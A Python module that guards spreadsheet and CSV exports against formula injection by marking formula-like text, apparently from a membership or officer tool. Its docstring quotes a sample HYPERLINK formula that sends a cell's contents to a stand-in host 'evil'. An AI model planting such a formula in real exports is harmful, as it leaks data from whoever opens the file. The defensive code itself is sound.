"""Text written to a spreadsheet stays text (OWASP "CSV injection").

A member named ``=HYPERLINK("http://evil/?x="&A1,"click")`` must reach the
officer's Excel as those characters, not as a live formula. Spreadsheet
programs read a cell as a formula when it starts with ``=``, ``+``, ``-`` or
``@`` (and strip a leading TAB, CR or spaces first), so such text is marked:

* XLSX: the cell keeps its visible value and is written with the string type
  (openpyxl would otherwise store a leading ``=`` as a formula, and ``#N/A``
  as an error);
* CSV: the text is prefixed with a single quote, as OWASP advises.

Numbers, dates and None pass through unchanged. Every export goes through
``xlsx_append`` (or ``csv_cell``); ``is_formula_like`` is the one rule.
"""

# A formula starts with one of these (full-width forms too: some spreadsheet
# programs accept them when typed in an East Asian input mode).
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
# Characters a spreadsheet may skip before it looks for the formula sign.
LEADING_CONTROLS = frozenset("\t\r\n")


def is_formula_like(value):
    """Return True when ``value`` is text a spreadsheet could run as a formula."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in LEADING_CONTROLS or value[0] in FORMULA_STARTS:
        return True
    stripped = value.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def csv_cell(value):
    """Return ``value`` for a CSV file: formula-like text gets a leading quote."""
    return "'" + value if is_formula_like(value) else value


def xlsx_append(sheet, values):
    """Append ``values`` as a row of an openpyxl ``sheet``; text stays text.

    The visible value is unchanged: only the cell type is forced to string,
    for every text cell (formula-like or not), so nothing typed by a user is
    ever stored as a formula or an error value.
    """
    from openpyxl.cell.cell import Cell

    # Cells made here and handed to append(): finding the new row again through
    # sheet.max_row scans every cell, which made a 5,000-row sheet take 6 s.
    cells = []
    for value in values:
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
